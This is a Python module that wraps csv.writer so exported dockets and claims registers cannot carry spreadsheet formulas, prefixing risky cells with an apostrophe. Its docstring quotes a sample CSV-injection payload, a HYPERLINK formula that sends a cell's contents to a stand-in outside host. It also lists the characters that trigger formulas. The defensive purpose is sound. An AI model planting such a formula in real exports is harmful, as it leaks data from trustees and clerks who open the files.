"""The one CSV writer for every export: cells cannot start a spreadsheet formula.

Exports (the docket, the claims register, reports) are opened by clerks and
trustees in Excel, LibreOffice or Google Sheets, which treat a cell that begins
with ``=``, ``+``, ``-`` or ``@`` as a formula, and a leading tab or carriage
return can hide one. An anonymous ePOC filer controls a creditor's name, so a
name such as ``=HYPERLINK("https://x.example/?"&A1,"Click")`` would run when a
trustee opens the register (OWASP "CSV Injection").

Such a text cell gets a leading apostrophe, the rule OWASP and defusedcsv use:
spreadsheets show the text as typed and never evaluate it. Numbers written as
numbers (int, Decimal, float) are left alone, so -12.50 stays a number.

Product code writes CSV only through `writer` (tests/core/test_csvsafe.py fails
on any direct csv.writer).
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, Protocol

# Characters that start a formula, or hide one, at the beginning of a cell.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


def safe_cell(value: Any) -> Any:
    """`value` as a CSV cell that no spreadsheet evaluates."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


class SafeWriter:
    """csv.writer's writerow and writerows, with every cell made safe first."""

    def __init__(self, out: _Writable, **options: Any) -> None:
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out: _Writable, **options: Any) -> SafeWriter:
    """A CSV writer on `out` (options as for csv.writer) whose cells are safe."""
    return SafeWriter(out, **options)
